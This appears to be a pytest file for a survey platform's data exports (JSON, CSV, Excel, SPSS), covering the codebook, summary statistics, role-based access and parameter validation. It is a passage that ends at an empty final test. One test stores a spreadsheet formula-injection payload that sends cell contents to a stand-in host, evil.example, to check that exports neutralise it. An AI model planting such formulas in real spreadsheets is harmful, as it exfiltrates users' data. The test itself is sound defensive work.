"""Raw responses, codebook and summary tables as JSON and as files (CSV, XLSX, SPSS .sav): every
file read back with pandas, openpyxl or pyreadstat and compared with the JSON API and with the
answers as written below; the summary's rates checked against statsmodels' Wilson interval."""

from __future__ import annotations

import io
import math
import random
import re
import uuid
from datetime import UTC, datetime, timedelta
from pathlib import Path
from urllib.parse import quote, unquote

import numpy as np
import openpyxl
import pandas as pd
import pyreadstat
import pytest
import sqlalchemy as sa
from statsmodels.stats.proportion import proportion_confint
from werkzeug.http import parse_options_header

from app.definitions.types import ITEM_TYPES
from app.extensions import db
from app.models import Channel, Response, Role
from app.staff.operations import exclude_response
from app.submissions import NewResponse, store_response

ROOT = Path(__file__).resolve().parents[2]

#: The small survey's items (tests/conftest.py SMALL_SURVEY_YAML): sat (satisfaction5, dk off the
#: scale), joined (single 1/2), joined_sat (likert, asked when joined = 1), channels (multiple:
#: wechat, board, meeting), years (whole number), advice (text).
#: community | channel | sat | joined | joined_sat | channels | years | advice | excluded   ("-": not answered)
RESPONSES = """
A | qr      | 5  | 1 | 4 | wechat,board   | 12 | 多办活动                       | no
A | ticket  | 4  | 2 | - | -              | 3  | -                              | no
A | paper   | dk | 1 | 5 | meeting        | 40 | 楼道灯坏了，请修一下, "尽快"    | no
A | qr      | 1  | 2 | - | board          | -  | -                              | yes
B | qr      | 3  | 1 | 2 | wechat         | 7  | 第一行\\n第二行                 | no
B | ticket  | 5  | 2 | - | -              | 0  | -                              | no
B | qr      | 4  | - | - | wechat,meeting | 25 | -                              | no
"""

SAT = {"5": 5, "4": 4, "3": 3, "2": 2, "1": 1, "dk": 99}
FIXED = ["response_id", "community_code", "community", "street", "channel", "submitted_at", "quality_flags",
         "excluded", "exclusion_reason"]
ITEMS = ["sat", "joined", "joined_sat", "channels_wechat", "channels_board", "channels_meeting", "years", "advice"]
SECRETS = ("devicehashsecret", "nethashsecret", "oncekeysecret")
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def parse(table: str) -> list[dict]:
    rows = []
    for line in table.strip().splitlines():
        cells = [cell.strip() for cell in line.split("|")]
        row = dict(zip(("community", "channel", "sat", "joined", "joined_sat", "channels", "years", "advice"),
                       [None if cell == "-" else cell for cell in cells[:-1]]))
        row["advice"] = row["advice"] and row["advice"].replace("\\n", "\n")
        rows.append(row | {"excluded": cells[-1] == "yes"})
    return rows


def store(campaign, communities: dict, table: str, start: datetime) -> list[int]:
    """The responses of ``table``, stored as the submit path stores them; their ids, in order."""
    items = campaign.survey_version.survey_definition.items_by_key
    ids = []
    for n, row in enumerate(parse(table)):
        given = {"sat": row["sat"], "joined": row["joined"], "joined_sat": row["joined_sat"],
                 "channels": row["channels"].split(",") if row["channels"] else None,
                 "years": row["years"], "advice": row["advice"]}
        answers = [(key, answer) for key, value in given.items() if value is not None
                   for answer in ITEM_TYPES[items[key].type].encode_value(items[key], value)]
        submission = uuid.uuid4().hex
        store_response(NewResponse(
            campaign_id=campaign.id, community_id=communities[row["community"]].id, channel=Channel(row["channel"]),
            submission_id=submission, submitted_at=start + timedelta(hours=n), answers=answers,
            device_hash=f"{SECRETS[0]}{n:04d}", network_hash=f"{SECRETS[1]}{n:03d}",
            once_key=f"{SECRETS[2]}{n:04d}", quality_flags=2 if n == 1 else 0))
        response = db.session.scalar(sa.select(Response).where(Response.submission_id == submission))
        if row["excluded"]:
            exclude_response(response, "同一人重复填写")
            db.session.commit()
        ids.append(response.id)
    return ids


def expected_rows(ids: list[int], communities: dict, include_excluded: bool = False) -> list[dict]:
    """The rows the export should hold, written from the table above, not from the code under test."""
    rows = []
    for id_, row in zip(ids, parse(RESPONSES)):
        if row["excluded"] and not include_excluded:
            continue
        community = communities[row["community"]]
        ticked = row["channels"].split(",") if row["channels"] else None
        rows.append({
            "response_id": id_, "community_code": community.code, "community": community.name,
            "street": community.parent.name, "channel": row["channel"],
            "excluded": int(row["excluded"]), "exclusion_reason": "同一人重复填写" if row["excluded"] else None,
            "sat": SAT[row["sat"]], "joined": int(row["joined"]) if row["joined"] else None,
            "joined_sat": int(row["joined_sat"]) if row["joined_sat"] else None,
            **{f"channels_{code}": (None if ticked is None else int(code in ticked))
               for code in ("wechat", "board", "meeting")},
            "years": int(row["years"]) if row["years"] else None, "advice": row["advice"],
        })
    return rows


START = datetime(2026, 3, 1, 2, 30, tzinfo=UTC)  # 10:30 in China


@pytest.fixture
def world(make):
    """甲 and 乙社区 in one street of one district with the small survey's campaign; 丙社区 in another district."""
    a = make.community(name="甲社区")
    b = make.community(name="乙社区", street=a.parent)
    other = make.community(name="丙社区")
    campaign = make.campaign(communities=[a, b], one_per_device=True, target=4, name="测试调查")
    db.session.commit()
    communities = {"A": a, "B": b}
    ids = store(campaign, communities, RESPONSES, START)
    return campaign, communities, ids, other


def get_json(client, url: str, status: int = 200) -> dict:
    response = client.get(url)
    assert response.status_code == status, response.get_data(as_text=True)[:500]
    assert response.is_json
    return response.get_json()


def get_file(client, url: str, mimetype: str) -> tuple[bytes, str]:
    response = client.get(url)
    assert response.status_code == 200, response.get_data(as_text=True)[:500]
    assert response.mimetype == mimetype
    return response.data, download_name(response)


def download_name(response, disposition: str = "attachment") -> str:
    """The file's name as a browser reads it (filename*=UTF-8''…), after checking the header's form:
    the name percent-encoded as RFC 5987 says and a plain ASCII filename= for older clients."""
    header = response.headers["Content-Disposition"]
    kind, options = parse_options_header(header)
    assert kind == disposition
    match = re.fullmatch(rf'{disposition}; filename="([A-Za-z0-9._()\[\]+-]+)"; filename\*=UTF-8\'\'([A-Za-z0-9%!#$&+.^_`|~-]+)',
                         header)
    assert match, header
    assert match.group(1).rpartition(".")[2] == options["filename"].rpartition(".")[2]  # the same kind of file
    assert unquote(match.group(2)) == options["filename"]
    return options["filename"]


def plain(value):
    """A cell as a comparable Python value: None for blanks and NaN, numbers as float."""
    if value is None or (isinstance(value, float) and math.isnan(value)) or value == "":
        return None
    if isinstance(value, (int, float, np.integer, np.floating)) and not isinstance(value, bool):
        return float(value)
    return value


def same_rows(read: list[dict], expected: list[dict]) -> None:
    assert len(read) == len(expected)
    for got, want in zip(read, expected):
        assert {k: plain(v) for k, v in got.items()} == {k: plain(v) for k, v in want.items()}


@pytest.fixture
def evaluator(world, logged_in):
    _, communities, _, _ = world
    return logged_in(communities["A"].parent.parent, Role.EVALUATOR)


# -- the JSON API -----------------------------------------------------------------------


def test_the_rows_hold_the_answers_as_given_and_leave_excluded_out(world, evaluator):
    campaign, communities, ids, _ = world
    body = get_json(evaluator, f"/api/v1/campaigns/{campaign.id}/responses")
    assert body["columns"] == FIXED + ITEMS
    assert body["total"] == 6 and body["excluded"] == 1 and body["include_excluded"] is False
    assert body["communities"] == sorted(c.id for c in communities.values())
    expected = expected_rows(ids, communities)
    assert [{k: v for k, v in row.items() if k not in ("submitted_at", "quality_flags")} for row in body["rows"]] \
        == expected
    # China time, from the stored UTC instant; the quality flags as stored.
    hours = {id_: n for n, id_ in enumerate(ids)}
    for row in body["rows"]:
        local = START + timedelta(hours=hours[row["response_id"]])
        assert datetime.fromisoformat(row["submitted_at"]) == local and row["submitted_at"].endswith("+08:00")
        assert row["quality_flags"] == db.session.get(Response, row["response_id"]).quality_flags
    assert body["rows"][0]["submitted_at"] == "2026-03-01T10:30:00+08:00"

    everything = get_json(evaluator, f"/api/v1/campaigns/{campaign.id}/responses?include_excluded=true")
    assert everything["total"] == 7 and everything["excluded"] == 1
    assert [{k: v for k, v in row.items() if k not in ("submitted_at", "quality_flags")}
            for row in everything["rows"]] == expected_rows(ids, communities, include_excluded=True)


def test_rows_come_in_pages_and_by_community(world, evaluator):
    campaign, communities, _, _ = world
    first = get_json(evaluator, f"/api/v1/campaigns/{campaign.id}/responses?per_page=4")
    second = get_json(evaluator, f"/api/v1/campaigns/{campaign.id}/responses?per_page=4&page=2")
    assert first["pages"] == second["pages"] == 2 and len(first["rows"]) == 4 and len(second["rows"]) == 2
    whole = get_json(evaluator, f"/api/v1/campaigns/{campaign.id}/responses")
    assert first["rows"] + second["rows"] == whole["rows"]
    b = communities["B"]
    only_b = get_json(evaluator, f"/api/v1/campaigns/{campaign.id}/responses?community={b.id}")
    assert only_b["communities"] == [b.id] and only_b["total"] == 3 and only_b["excluded"] == 0
    assert {row["community"] for row in only_b["rows"]} == {"乙社区"}
    both = get_json(evaluator, f"/api/v1/campaigns/{campaign.id}/responses?community={b.id},{communities['A'].id}")
    assert both["rows"] == whole["rows"]


def test_the_codebook_labels_every_column_from_the_questionnaire(world, evaluator):
    campaign, _, _, _ = world
    body = get_json(evaluator, f"/api/v1/campaigns/{campaign.id}/codebook")
    book = {v["name"]: v for v in body["codebook"]}
    assert list(book) == FIXED + ITEMS
    sat = book["sat"]
    assert sat["label"] == "您对社区服务满意吗？" and sat["type"] == "likert" and sat["numeric"]
    assert sat["measure"] == "ordinal"
    assert [(v["value"], v["label"], v["missing"], v["code"]) for v in sat["values"]] == [
        (5, "非常满意", False, None), (4, "满意", False, None), (3, "一般", False, None), (2, "不满意", False, None),
        (1, "非常不满意", False, None), (99, "不了解/说不清", True, "dk")]
    assert [(v["value"], v["label"]) for v in book["joined"]["values"]] == [(1, "参加过"), (2, "没参加过")]
    assert book["channels_board"]["label"] == "您从哪里看到社区消息？：公开栏"
    assert book["channels_board"]["option"] == "board" and book["channels_board"]["item"] == "channels"
    assert [(v["value"], v["label"]) for v in book["channels_board"]["values"]] == [(1, "选了"), (0, "没选")]
    assert book["years"]["label"] == "您在本社区住了几年？（单位：年）" and book["years"]["measure"] == "scale"
    assert book["advice"]["numeric"] is False and book["advice"]["values"] == []
    assert {v["value"]: v["label"] for v in book["channel"]["values"]}["ticket"] == "问卷票（随机样本）"
    # The same codebook comes with the rows.
    rows = get_json(evaluator, f"/api/v1/campaigns/{campaign.id}/responses")
    assert rows["codebook"] == body["codebook"]


# -- the files ----------------------------------------------------------------------------


def test_the_csv_has_a_bom_and_the_json_rows(world, evaluator):
    campaign, _, _, _ = world
    for query, name in (("", "测试调查-原始数据.csv"), ("?include_excluded=true", "测试调查-原始数据（含已剔除）.csv")):
        rows = get_json(evaluator, f"/api/v1/campaigns/{campaign.id}/responses{query}")["rows"]
        data, filename = get_file(evaluator, f"/api/v1/campaigns/{campaign.id}/responses.csv{query}", "text/csv")
        assert filename == name
        assert data.startswith(b"\xef\xbb\xbf")
        frame = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig", keep_default_na=False, na_values=[""])
        assert list(frame.columns) == FIXED + ITEMS
        same_rows(frame.to_dict("records"), rows)
    # Words with commas, quotes and a line break survive.
    assert "楼道灯坏了，请修一下, \"尽快\"" in frame["advice"].tolist() and "第一行\n第二行" in frame["advice"].tolist()

    codebook, filename = get_file(evaluator, f"/api/v1/campaigns/{campaign.id}/codebook.csv", "text/csv")
    assert filename == "测试调查-编码表.csv" and codebook.startswith(b"\xef\xbb\xbf")
    book = pd.read_csv(io.BytesIO(codebook), encoding="utf-8-sig", dtype=str, keep_default_na=False)
    dk = book[(book["变量名"] == "sat") & (book["取值"] == "99")].iloc[0]
    assert (dk["取值含义"], dk["原编码"], dk["不计入满意率等统计"]) == ("不了解/说不清", "dk", "是")
    assert book[(book["变量名"] == "sat") & (book["取值"] == "5")]["取值含义"].tolist() == ["非常满意"]


def test_the_workbook_has_the_rows_the_codebook_and_the_notes(world, evaluator):
    campaign, _, _, _ = world
    rows = get_json(evaluator, f"/api/v1/campaigns/{campaign.id}/responses")["rows"]
    data, filename = get_file(evaluator, f"/api/v1/campaigns/{campaign.id}/responses.xlsx", XLSX)
    assert filename == "测试调查-原始数据.xlsx"
    book = openpyxl.load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["数据", "编码表", "说明"]
    header, *values = list(book["数据"].values)
    assert list(header) == FIXED + ITEMS
    same_rows([dict(zip(header, row)) for row in values], rows)
    codebook = [dict(zip(next(book["编码表"].values), row)) for row in list(book["编码表"].values)[1:]]
    assert {"变量名": "sat", "取值": 99, "取值含义": "不了解/说不清", "原编码": "dk"}.items() <= \
        next(r for r in codebook if r["变量名"] == "sat" and r["取值"] == 99).items()
    notes = dict(book["说明"].values)
    assert notes["测评"] == "测试调查" and notes["问卷份数"] == "6"
    assert "没有包含已剔除的问卷" in notes["已剔除的问卷"] and "共剔除 1 份" in notes["已剔除的问卷"]
    assert "北京时间" in notes["时间"] and notes["生成时间"]

    data, _ = get_file(evaluator, f"/api/v1/campaigns/{campaign.id}/responses.xlsx?include_excluded=1", XLSX)
    notes = dict(openpyxl.load_workbook(io.BytesIO(data))["说明"].values)
    assert notes["问卷份数"] == "7" and "包含已剔除的问卷 1 份" in notes["已剔除的问卷"]


def read_sav(data: bytes, tmp_path, **options):
    path = tmp_path / f"{uuid.uuid4().hex}.sav"
    path.write_bytes(data)
    return pyreadstat.read_sav(str(path), **options)


def test_the_spss_file_has_the_rows_and_the_labels(world, evaluator, tmp_path):
    campaign, _, _, _ = world
    rows = get_json(evaluator, f"/api/v1/campaigns/{campaign.id}/responses?include_excluded=true")["rows"]
    data, filename = get_file(evaluator, f"/api/v1/campaigns/{campaign.id}/responses.sav?include_excluded=true",
                              "application/x-spss-sav")
    assert filename == "测试调查-原始数据（含已剔除）.sav"
    frame, meta = read_sav(data, tmp_path, user_missing=True)
    assert list(frame.columns) == FIXED + ITEMS
    same_rows(frame.to_dict("records"), rows)
    assert meta.file_encoding == "UTF-8" and meta.file_label == "测试调查"
    labels = meta.column_names_to_labels
    assert labels["sat"] == "您对社区服务满意吗？" and labels["channels_wechat"] == "您从哪里看到社区消息？：微信群"
    assert labels["advice"] == "您还有什么建议？" and labels["excluded"].startswith("是否已剔除")
    values = meta.variable_value_labels
    assert values["sat"] == {5.0: "非常满意", 4.0: "满意", 3.0: "一般", 2.0: "不满意", 1.0: "非常不满意",
                             99.0: "不了解/说不清"}
    assert values["joined"] == {1.0: "参加过", 2.0: "没参加过"} and values["channels_meeting"] == {1.0: "选了", 0.0: "没选"}
    assert values["channel"]["paper"] == "纸质问卷" and values["excluded"] == {0.0: "计入统计", 1.0: "已剔除"}
    assert meta.missing_ranges["sat"] == [{"lo": 99.0, "hi": 99.0}]
    assert meta.variable_measure["sat"] == "ordinal" and meta.variable_measure["years"] == "scale"
    # Read as SPSS would: 不了解/说不清 is missing, so no mean counts it.
    frame, _ = read_sav(data, tmp_path)
    assert frame["sat"].isna().sum() == 1 and frame["sat"].max() == 5


def test_no_file_holds_a_device_or_network_hash(world, evaluator, tmp_path):
    campaign, _, _, _ = world
    base = f"/api/v1/campaigns/{campaign.id}/responses"
    texts = [evaluator.get(f"{base}?include_excluded=true").get_data(as_text=True),
             evaluator.get(f"{base}.csv?include_excluded=true").data.decode("utf-8-sig")]
    book = openpyxl.load_workbook(io.BytesIO(evaluator.get(f"{base}.xlsx?include_excluded=true").data))
    texts += [repr(list(sheet.values)) for sheet in book]
    sav = evaluator.get(f"{base}.sav?include_excluded=true").data
    frame, meta = read_sav(sav, tmp_path)
    texts += [frame.to_csv(), repr(meta.column_names), sav.decode("utf-8", errors="replace")]
    stored = db.session.execute(sa.select(Response.device_hash, Response.network_hash, Response.once_key)).all()
    assert all(value and value.startswith(SECRETS) for row in stored for value in row)  # they are there to leak
    for text in texts:
        for secret in SECRETS:
            assert secret not in text
        assert "device" not in text and "network_hash" not in text and "once_key" not in text


@pytest.mark.parametrize("include_flagged", [False, True])
def test_the_summary_workbook_has_the_summary_apis_figures(world, evaluator, include_flagged):
    # Flagged responses (甲社区's ticket, sat 4) are out of the workbook unless asked for, as on the
    # dashboard: the workbook is compared with the summary API asked the same thing.
    campaign, communities, _, _ = world
    flagged = f"include_flagged={str(include_flagged).lower()}"
    summary = get_json(evaluator, f"/api/v1/campaigns/{campaign.id}/summary?{flagged}")
    whole = get_json(evaluator, f"/api/v1/campaigns/{campaign.id}/summary?group_by=campaign&{flagged}")
    data, filename = get_file(evaluator, f"/api/v1/campaigns/{campaign.id}/summary.xlsx"
                                         + ("?include_flagged=true" if include_flagged else ""), XLSX)
    assert filename == "测试调查-汇总表.xlsx"
    book = openpyxl.load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["各社区", "各题分布", "题目", "说明"]
    header, *rows = list(book["各社区"].values)
    table = {row[1]: dict(zip(header, row)) for row in rows}
    assert list(table) == ["甲社区", "乙社区", "全部社区"]
    for source, key, name in [(summary, c.id, c.name) for c in communities.values()] + [(whole, campaign.id, "全部社区")]:
        group = next(g for g in source["groups"] if g["key"] == key)
        assert table[name]["有效问卷（份）"] == group["respondents"]
        for item in source["items"]:
            stats = next(g for g in item["groups"] if g["key"] == key)
            assert table[name][f"{item['key']} 有效回答"] == stats["n_valid"]
            assert table[name][f"{item['key']} 满意率"] == pytest.approx(stats["satisfaction_rate"])
            assert table[name][f"{item['key']} 满意率下限"] == pytest.approx(stats["rate_interval"]["low"])
            assert table[name][f"{item['key']} 满意率上限"] == pytest.approx(stats["rate_interval"]["high"])
    # And independently: 甲社区's counted sat answers are 5, dk and (when flagged ones count) 4; the 1
    # was excluded. So 1 of 1 satisfied, or 2 of 2.
    valid = 2 if include_flagged else 1
    low, high = proportion_confint(valid, valid, alpha=1 - campaign.confidence, method="wilson")
    a = table["甲社区"]
    assert (a["有效问卷（份）"], a["sat 有效回答"], a["sat 满意率"]) == (valid + 1, valid, 1.0)
    assert a["sat 满意率下限"] == pytest.approx(low) and a["sat 满意率上限"] == pytest.approx(high)
    assert table["全部社区"]["有效问卷（份）"] == (6 if include_flagged else 5)
    assert book["各社区"].cell(row=2, column=header.index("sat 满意率") + 1).number_format == "0.0%"

    header, *rows = list(book["各题分布"].values)
    dist = [dict(zip(header, row)) for row in rows]
    a_sat = {r["答案编码"]: r for r in dist if r["题目编号"] == "sat" and r["社区"] == "甲社区"}
    assert {code: r["人数"] for code, r in a_sat.items()} == {"5": 1, "4": int(include_flagged), "3": 0, "2": 0,
                                                             "1": 0, "dk": 1}
    assert a_sat["5"]["占有效回答"] == pytest.approx(1 / valid) and a_sat["dk"]["占有效回答"] is None
    assert a_sat["5"]["答案"] == "非常满意" and a_sat["dk"]["说明"] == "不计入有效回答"
    api_distribution = next(g for g in summary["items"][0]["groups"] if g["key"] == communities["A"].id)
    assert [(d["code"], d["count"]) for d in api_distribution["distribution"]] == \
        [(code, a_sat[code]["人数"]) for code in ("5", "4", "3", "2", "1")]
    notes = dict(book["说明"].values)
    assert "不计入" in notes["已剔除的问卷"] and "Wilson" in notes["区间"]
    assert notes["可疑问卷（有质量标记）"].startswith("计入" if include_flagged else "不计入")


# -- who may read what, and bad requests ------------------------------------------------------


def test_raw_data_is_for_evaluators_and_the_district_only(world, logged_in, client):
    campaign, communities, _, other = world
    a, b = communities["A"], communities["B"]
    base = f"/api/v1/campaigns/{campaign.id}"
    raw = [f"{base}/responses", f"{base}/responses.csv", f"{base}/responses.xlsx", f"{base}/responses.sav"]
    open_to_all = [f"{base}/codebook", f"{base}/codebook.csv", f"{base}/summary.xlsx"]
    for url in raw + open_to_all:
        response = client.get(url)
        assert response.status_code == 401 and response.is_json, url
    outsider = logged_in(other.parent.parent, Role.EVALUATOR)
    for url in raw + open_to_all:
        response = outsider.get(url)
        assert response.status_code == 404 and response.is_json, url
    admin = logged_in(a.parent.parent, Role.ADMIN)
    assert admin.get(f"{base}/responses").status_code == 200
    community_staff = logged_in(a, Role.COMMUNITY)
    for staff in (community_staff, logged_in(a.parent, Role.STREET)):
        for url in raw:
            response = staff.get(url)
            assert response.status_code == 403 and response.is_json, url
        for url in open_to_all:
            assert staff.get(url).status_code == 200, url
    # Community staff get the aggregates of their own community only: no other community, no total.
    staff = community_staff
    response = staff.get(f"{base}/summary.xlsx")
    assert download_name(response) == "测试调查-甲社区-汇总表.xlsx"
    rows = list(openpyxl.load_workbook(io.BytesIO(response.data))["各社区"].values)[1:]
    assert [row[1] for row in rows] == ["甲社区"]
    assert staff.get(f"{base}/summary.xlsx?community={b.id}").status_code == 404


@pytest.mark.parametrize("query", [
    "responses?include_excluded=maybe", "responses?community=abc", "responses?community=1.5", "responses?page=0",
    "responses?per_page=100000", "responses?per_page=", "responses.csv?include_excluded=2",
    "responses.sav?community=-1", "summary.xlsx?include_excluded=true", "summary.xlsx?community=x",
    # Yes/no parameters take true, false, 1 and 0 (any case), as the other API parameters do.
    "responses?include_excluded=yes", "responses.csv?include_excluded=on", "summary.xlsx?include_flagged=no",
    "summary.xlsx?include_flagged=y",
])
def test_bad_parameters_get_a_json_400(world, evaluator, query):
    campaign, _, _, _ = world
    if query.endswith("per_page="):
        assert evaluator.get(f"/api/v1/campaigns/{campaign.id}/{query}").status_code == 200  # empty: the default
        return
    body = get_json(evaluator, f"/api/v1/campaigns/{campaign.id}/{query}", 400)
    assert body["error"]["status"] == 400 and body["error"]["message"].isascii()


def test_unknown_communities_and_file_types_are_not_found(world, evaluator):
    campaign, _, _, other = world
    for url in (f"responses?community={other.id}", f"responses?community={2**40}", "responses.pdf",
                "responses.json"):
        response = evaluator.get(f"/api/v1/campaigns/{campaign.id}/{url}")
        assert response.status_code in (400, 404) and response.is_json, url
    assert evaluator.get(f"/api/v1/campaigns/{campaign.id}/responses?community={other.id}").status_code == 404
    assert evaluator.get(f"/api/v1/campaigns/{campaign.id}/responses.pdf").status_code == 404
    assert evaluator.get(f"/api/v1/campaigns/{2**31}/responses").status_code == 404


# -- the page ---------------------------------------------------------------------------------


def test_the_downloads_page_lists_the_files_for_the_account(world, logged_in, client):
    campaign, communities, _, other = world
    a = communities["A"]
    url = f"/evaluate/campaigns/{campaign.id}/exports"
    assert client.get(url).status_code == 302 and "/staff/login" in client.get(url).headers["Location"]
    assert logged_in(other.parent.parent, Role.EVALUATOR).get(url).status_code == 404

    evaluator = logged_in(a.parent.parent, Role.EVALUATOR)
    html = evaluator.get(url).get_data(as_text=True)
    for text in ("原始数据 Excel", "原始数据 CSV", "原始数据 SPSS", "编码表 CSV", "汇总表 Excel", "含已剔除问卷", "甲社区",
                 "汇总表计入可疑问卷", "默认不计入它们"):
        assert text in html
    assert f"/api/v1/campaigns/{campaign.id}/responses.sav" in html
    # The workspace's other views of the campaign are a click away.
    assert f'href="/evaluate/campaigns/{campaign.id}/dashboard"' in html and "交叉分析" in html
    assert 'name="include_flagged" value="1">' in html  # not ticked
    html = evaluator.get(f"{url}?community={a.id}&include_excluded=1").get_data(as_text=True)
    assert f"responses.csv?community={a.id}&amp;include_excluded=true" in html
    assert f"summary.xlsx?community={a.id}\"" in html  # the tables never include excluded responses
    # Every link on the page works.
    for link in re.findall(r'href="(/api/v1/[^"]+)"', html):
        assert evaluator.get(link.replace("&amp;", "&")).status_code == 200, link
    # 汇总表计入可疑问卷 ticked: the summary link asks for them, the raw data links do not change.
    for ticked in ("1", "true", "TRUE"):
        html = evaluator.get(f"{url}?include_flagged={ticked}").get_data(as_text=True)
        assert 'name="include_flagged" value="1" checked>' in html and "这次<b>计入</b>它们" in html
        assert "summary.xlsx?include_flagged=true\"" in html and "responses.csv\"" in html
    for bad in ("include_flagged=yes", "include_flagged=2", "include_excluded=on"):
        response = evaluator.get(f"{url}?{bad}")
        assert response.status_code == 400 and "只能勾选或不勾选" in response.get_data(as_text=True), bad

    staff = logged_in(a, Role.COMMUNITY)
    html = staff.get(url).get_data(as_text=True)
    assert "responses." not in html and "含已剔除问卷" not in html
    assert "汇总表 Excel" in html and "编码表 CSV" in html and "只有考评人员和区里能下载" in html

    response = evaluator.get(f"{url}?community=abc")
    assert response.status_code == 400 and "社区选得不对" in response.get_data(as_text=True)
    assert evaluator.get(f"{url}?community={other.id}").status_code == 404


# -- variable names and the pilot questionnaire ------------------------------------------------------


def test_names_are_valid_spss_names_whatever_the_codes(make, logged_in, tmp_path):
    long_key = "a" * 32
    version = make.version(f"""
title: 名字
sections:
  - items:
      - {{key: {long_key}, type: multiple, text: 多选, tags: ["test:x"],
         options: [{{code: "{'b' * 30}-1", label: 甲}}, {{code: "{'b' * 30}_1", label: 乙}},
                   {{code: "{'B' * 30}_1", label: 丙}}]}}
      - {{key: with, type: single, text: 单选, tags: ["test:y"],
         options: [{{code: m, label: 男}}, {{code: f, label: 女}}]}}
      - {{key: channel, type: number, text: 数字, tags: ["test:z"]}}
""")
    community = make.community()
    campaign = make.campaign(version, communities=[community])
    db.session.commit()
    items = version.survey_definition.items_by_key
    answers = [*ITEM_TYPES["multiple"].encode_value(items[long_key], [f"{'b' * 30}-1", f"{'B' * 30}_1"])]
    store_response(NewResponse(campaign_id=campaign.id, community_id=community.id, channel=Channel.QR,
                               submission_id=uuid.uuid4().hex, submitted_at=START,
                               answers=[(long_key, a) for a in answers] + [("with", ("f", None, None)),
                                                                           ("channel", ("3", 3.0, None))]))
    client = logged_in(community.parent.parent, Role.ADMIN)
    body = get_json(client, f"/api/v1/campaigns/{campaign.id}/responses")
    names = body["columns"]
    assert len({n.lower() for n in names}) == len(names)
    for name in names:
        assert len(name.encode()) <= 64 and name[0].isalpha() and name.replace("_", "").isalnum() and name.isascii()
        assert name.lower() not in ("with", "to", "all", "and", "by", "not", "or")
    assert names[:9] == FIXED and "channel_2" in names and "with_2" in names
    data = client.get(f"/api/v1/campaigns/{campaign.id}/responses.sav").data
    frame, meta = read_sav(data, tmp_path)
    assert list(frame.columns) == names
    same_rows(frame.to_dict("records"), body["rows"])
    assert meta.variable_value_labels["with_2"] == {"m": "男", "f": "女"}
    assert sorted(body["rows"][0][n] for n in names[9:12]) == [0, 1, 1]


def test_the_pilot_questionnaire_exports_whole(make, logged_in, tmp_path):
    from app.demo import _answer  # the demo's resident model: answers that follow the show_if paths

    version = make.version((ROOT / "surveys" / "pilot-satisfaction.yaml").read_text(encoding="utf-8"))
    definition = version.survey_definition
    a = make.community(name="苏铁社区")
    b = make.community(name="金沙社区", street=a.parent)
    campaign = make.campaign(version, communities=[a, b], one_per_device=False)
    db.session.commit()
    rng, np_rng = random.Random(7), np.random.default_rng(7)
    difficulty = {item.key: 0.0 for item in definition.items}
    for n in range(40):
        community = (a, b)[n % 2]
        answers = _answer(definition, 0.3 if community is a else -0.3, difficulty, n % 3 == 0, rng, np_rng,
                          ["jiuye_1n", "aixin_hui"] if community is a else ["e_dangjian"])
        store_response(NewResponse(campaign_id=campaign.id, community_id=community.id, channel=Channel.QR,
                                   submission_id=uuid.uuid4().hex, submitted_at=START, answers=answers))
    client = logged_in(a.parent.parent, Role.EVALUATOR)
    body = get_json(client, f"/api/v1/campaigns/{campaign.id}/responses")
    book = {v["name"]: v for v in body["codebook"]}
    assert len(body["rows"]) == 40
    heard = [n for n in body["columns"] if n.startswith("pilot_heard_")]
    assert len(heard) == 16 and book["pilot_heard_none"]["label"] == "您听说过下面哪些项目？：都没听说过"
    assert {v["label"] for v in book["funds_sat"]["values"]} >= {"基本满意", "不了解/说不清"}
    assert book["sex"]["numeric"] is False and book["age_band"]["numeric"] is True
    frame, meta = read_sav(client.get(f"/api/v1/campaigns/{campaign.id}/responses.sav").data, tmp_path,
                           user_missing=True)
    same_rows(frame.to_dict("records"), body["rows"])
    assert meta.variable_value_labels["sex"] == {"m": "男", "f": "女"}
    assert meta.variable_value_labels["pilot_aware"][4.0] == "很了解"
    assert meta.column_names_to_labels["pilot_join"] == definition.items_by_key["pilot_join"].text
    # Those who heard of none of the projects were not asked which: blank, not 0.
    unaware = [row for row in body["rows"] if row["pilot_aware"] == 1]
    assert all(row["pilot_heard_none"] is None for row in unaware)
    # The summary table's rates are the summary API's, and a recount from the raw rows.
    summary = get_json(client, f"/api/v1/campaigns/{campaign.id}/summary")
    sheet = list(openpyxl.load_workbook(io.BytesIO(client.get(
        f"/api/v1/campaigns/{campaign.id}/summary.xlsx").data))["各社区"].values)
    table = {row[1]: dict(zip(sheet[0], row)) for row in sheet[1:]}
    rows = pd.DataFrame(body["rows"])
    for community in (a, b):
        stats = next(g for g in summary["items"] if g["key"] == "overall")["groups"]
        mine = next(g for g in stats if g["key"] == community.id)
        answered = rows[(rows["community"] == community.name) & rows["overall"].isin([1, 2, 3, 4, 5])]["overall"]
        assert mine["satisfaction_rate"] == pytest.approx((answered >= 3).mean())
        assert table[community.name]["overall 满意率"] == pytest.approx(mine["satisfaction_rate"])


def test_words_that_look_like_a_formula_stay_words(world, evaluator):
    campaign, communities, _, _ = world
    words = '=HYPERLINK("http://evil.example/?q="&A1,"点我")'
    store_response(NewResponse(campaign_id=campaign.id, community_id=communities["B"].id, channel=Channel.QR,
                               submission_id=uuid.uuid4().hex, submitted_at=START,
                               answers=[("sat", ("5", None, None)), ("advice", ("", None, words))]))
    base = f"/api/v1/campaigns/{campaign.id}/responses"
    assert get_json(evaluator, base)["rows"][-1]["advice"] == words  # the JSON holds the words as written
    sheet = openpyxl.load_workbook(io.BytesIO(evaluator.get(f"{base}.xlsx").data))["数据"]
    cell = sheet.cell(row=sheet.max_row, column=len(FIXED + ITEMS))
    assert (cell.value, cell.data_type) == (words, "s")
    frame = pd.read_csv(io.BytesIO(evaluator.get(f"{base}.csv").data), encoding="utf-8-sig")
    assert frame["advice"].iloc[-1] == "'" + words


def test_yes_no_parameters_take_true_false_1_and_0_in_any_case(world, evaluator):
    campaign, _, _, _ = world
    for value, included in (("TRUE", True), ("1", True), ("true", True), ("False", False), ("0", False), ("", False)):
        body = get_json(evaluator, f"/api/v1/campaigns/{campaign.id}/responses?include_excluded={value}")
        assert body["include_excluded"] is included and len(body["rows"]) == (7 if included else 6), value
    notes = dict(openpyxl.load_workbook(io.BytesIO(evaluator.get(
        f"/api/v1/campaigns/{campaign.id}/summary.xlsx?include_flagged=True").data))["说明"].values)
    assert notes["可疑问卷（有质量标记）"] == "计入"


def test_the_summary_workbook_counts_only_the_communities_asked_for(world, logged_in, evaluator, monkeypatch):
